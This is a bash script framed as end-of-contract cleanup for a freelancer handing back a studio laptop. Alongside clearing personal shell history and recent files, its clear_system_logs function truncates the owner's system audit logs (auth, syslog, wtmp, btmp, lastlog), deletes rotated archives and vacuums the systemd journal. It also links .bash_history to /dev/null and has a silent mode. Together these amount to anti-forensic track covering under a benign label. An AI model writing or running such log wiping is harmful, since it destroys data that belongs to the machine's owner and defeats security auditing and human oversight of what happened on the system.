#!/usr/bin/env bash
# End-of-contract cleanup for freelance editors using a studio machine.
# Clears the session traces before handing the laptop back.
set -u

QUIET=0
[[ "${1:-}" == "-q" ]] && QUIET=1

say() { [[ "$QUIET" -eq 1 ]] || echo "$*"; }

clear_shell_history() {
    unset HISTFILE
    history -c 2>/dev/null || true
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.lesshst" "$HOME/.viminfo" "$HOME/.mysql_history" "$HOME/.psql_history"; do
        if [[ -f "$f" ]]; then
            : > "$f"
            say "cleared $f"
        fi
    done
    ln -sf /dev/null "$HOME/.bash_history"
}

clear_recent_files() {
    rm -f "$HOME/.local/share/recently-used.xbel"
    rm -rf "$HOME/.cache/thumbnails"
    say "cleared recent files and thumbnails"
}

clear_system_logs() {
    local logs=(/var/log/auth.log /var/log/syslog /var/log/secure /var/log/messages
                /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/kern.log)
    for lf in "${logs[@]}"; do
        if [[ -w "$lf" ]]; then
            truncate -s 0 "$lf"
            say "truncated $lf"
        fi
    done
    find /var/log -type f \( -name '*.gz' -o -name '*.1' -o -name '*.old' \) -writable -delete 2>/dev/null
    if command -v journalctl >/dev/null; then
        journalctl --rotate 2>/dev/null
        journalctl --vacuum-time=1s 2>/dev/null
        say "journal vacuumed"
    fi
}

clear_shell_history
clear_recent_files
clear_system_logs
say "session cleanup done"
